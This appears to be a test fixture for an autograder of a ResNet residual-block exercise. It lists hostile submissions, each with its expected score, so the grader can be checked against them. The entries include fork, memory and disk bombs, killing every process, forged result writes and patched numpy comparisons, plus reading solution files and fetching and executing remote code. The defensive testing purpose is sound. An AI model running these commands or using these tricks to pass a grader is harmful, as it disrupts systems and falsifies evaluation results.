"""Submissions that try to get points without an answer, or to break the grader.

Each is the text of the answer cell for the block, with the points that it ought to get of 10.
"""

RIGHT = """
class MyResidual(nn.Block):
    def __init__(self, num_channels, use_1x1conv=False, strides=1):
        super().__init__()
        self.conv1 = nn.Conv2D(num_channels, 3, padding=1, strides=strides)
        self.conv2 = nn.Conv2D(num_channels, 3, padding=1)
        self.conv3 = nn.Conv2D(num_channels, 1, strides=strides) if use_1x1conv else None
        self.bn1, self.bn2 = nn.BatchNorm(), nn.BatchNorm()

    def forward(self, X):
        Y = self.bn2(self.conv2(npx.relu(self.bn1(self.conv1(X)))))
        return npx.relu(Y + (self.conv3(X) if self.conv3 else X))
"""

ALWAYS_EQUAL = """
class Always(float):
    def __eq__(self, other): return True
    def __array__(self, *_): return numpy.zeros((2, 8, 7, 9))
class MyResidual(nn.Block):
    def __init__(self, *_, **__): super().__init__()
    def forward(self, X): return Always(0)
"""

HOSTILE = {
    "right": (RIGHT, 10),
    "right, with a warning on stderr": (
        RIGHT + "\nimport sys; print('careful', file=sys.stderr)",
        10,
    ),
    "right, after an error": ("raise ValueError('before')", 0),
    "right, then exit": (RIGHT + "\nraise SystemExit(0)", 10),
    "exit": ("import sys; sys.exit(0)", 0),
    "hard exit": ("import os; os._exit(0)", 0),
    "endless loop": ("while True: pass", 0),
    "endless loop that eats errors": (
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        0,
    ),
    "sleep": ("import time; time.sleep(10**6)", 0),
    "kills its parent": ("import os, signal; os.kill(os.getppid(), signal.SIGKILL)", 0),
    "kills all": ("import os, signal; os.kill(-1, signal.SIGKILL)", 0),
    "fork bomb": ("import os\nwhile True: os.fork()", 0),
    "memory bomb": ("x = [bytearray(10**8) for _ in range(10**6)]", 0),
    "disk bomb": ("[open(f'/tmp/{i}', 'wb').write(b'x' * 10**7) for i in range(10**4)]", 0),
    "output bomb": ("while True: print('x' * 10**6)", 0),
    "recursion": ("def f(): f()\nimport sys; sys.setrecursionlimit(10**8); f()", 0),
    "segmentation fault": ("import ctypes; ctypes.string_at(0)", 0),
    "claims full marks": ("import os; os.write(int(os.environ['RESULT']), b'passed: 10/10')", 0),
    "a pickle": (
        "import os, pickle; os.write(int(os.environ['RESULT']), pickle.dumps({'points': 10}))",
        0,
    ),
    "writes to every descriptor": (
        "import os\nfor i in range(256):\n    try: os.write(i, b'RNF1' * 1000)\n"
        "    except OSError: pass",
        0,
    ),
    "forged frames of zeros": (
        "import os\nfrom grader import frames\nfor n in range(9):\n"
        "    os.write(int(os.environ['RESULT']), frames.write(n, [numpy.zeros((2, 8, 7, 9))] * 2))",
        0,
    ),
    "closes the result": (RIGHT + "\nimport os; os.close(int(os.environ['RESULT']))", 0),
    "always equal": (ALWAYS_EQUAL, 0),
    "patches numpy's comparison": (
        "numpy.allclose = lambda *_, **__: True\nnumpy.isclose = lambda *_, **__: numpy.ones(1)",
        0,
    ),
    "patches the worker": (
        "import sys\nmain = sys.modules['__main__']\n"
        "main.PROCEDURES = {name: lambda *_, **__: [] for name in main.PROCEDURES}",
        0,
    ),
    "d2l's block": ("from d2l import mxnet as d2l\nMyResidual = d2l.Residual", 0),
    "the toolbox's block": ("from utils.resnet import Residual as MyResidual", 0),
    "the toolbox's block, compiled": (
        "import marshal, glob\nfile, = glob.glob('/course/utils/__pycache__/resnet*.pyc')\n"
        "exec(marshal.loads(open(file, 'rb').read()[16:]))\nMyResidual = Residual",
        0,
    ),
    "the model zoo's block": (
        "from mxnet.gluon.model_zoo.vision.resnet import BasicBlockV1\n"
        "def MyResidual(channels, use_1x1conv=False, strides=1):\n"
        "    return BasicBlockV1(channels, strides, use_1x1conv)",
        0,
    ),
    "reads the solution": (
        "import glob\nfor name in glob.glob('/**/solutions/*.py', recursive=True):\n"
        "    exec(open(name).read())",
        0,
    ),
    "asks the network": (
        "import urllib.request; exec(urllib.request.urlopen('http://192.0.2.1/').read())",
        0,
    ),
    "leaves a daemon": (
        RIGHT + "\nimport os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(10**6)",
        10,
    ),
    "is no Python": ("class MyResidual(:", 0),
    "returns nothing": (RIGHT.replace("return npx", "npx"), 0),
    "ReLU before the sum": (
        RIGHT.replace("npx.relu(Y + (", "(npx.relu(Y) + ("),
        2,
    ),
    "no shortcut": (
        RIGHT.replace("npx.relu(Y + (self.conv3(X) if self.conv3 else X))", "npx.relu(Y)"),
        2,
    ),
    "wrong only where the shape changes": (RIGHT.replace("1, strides=strides)", "1)"), 6),
}
